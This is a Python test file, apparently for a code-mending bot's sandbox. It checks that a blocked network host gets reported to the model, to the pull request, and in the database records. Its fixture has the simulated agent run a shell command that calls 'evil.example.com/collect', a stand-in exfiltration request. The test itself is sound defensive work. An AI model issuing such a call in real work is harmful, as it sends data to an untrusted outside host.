"""What a run could not reach is told: to the model at once, to people on the pull request."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import text

from bot.tasks.database.connection import Database
from tests.support.flow import DONE, FAULTY, MEND, UNITTEST, at_work, call

pytestmark = pytest.mark.timeout(400)

FETCH = "import urllib.request; urllib.request.urlopen('http://evil.example.com/collect?it=1', timeout=5)"


async def test_a_blocked_host_is_told_to_the_model_and_to_people(
    tmp_path: Path, home: Path, database: Database
) -> None:
    async with at_work(tmp_path, home, database) as hob:
        yml = f'internet: ["files.example.com"]\n{UNITTEST}'
        await hob.hub.seed_repo("calc", FAULTY | {".github/hob.yml": yml})
        hob.says([call("shell", command=f'python -c "{FETCH}"')], [MEND], [DONE])
        issue = await hob.issue("calc", "Doubling is wrong", "@hob mend it")
        final = await hob.comment("calc", issue["number"], "**Done**")
        (pull,) = await hob.pulls("calc")
        for words in (final, pull["body"]):
            assert "Network blocked: `evil.example.com:80` by `python -c" in words
            assert "add `evil.example.com` to `internet` in `.github/hob.yml`" in words
            assert "with `internet: files.example.com`" in words
        async with database.engine.connect() as connection:
            turns = str(list((await connection.execute(text("SELECT record FROM attempt_turns"))).scalars()))
            (proof,) = (await connection.execute(text("SELECT proof FROM runs"))).scalars()
        assert "blocked by the network policy: evil.example.com:80 (not on the list of hosts)" in turns
        assert proof["blocked"][0]["host"] == "evil.example.com"
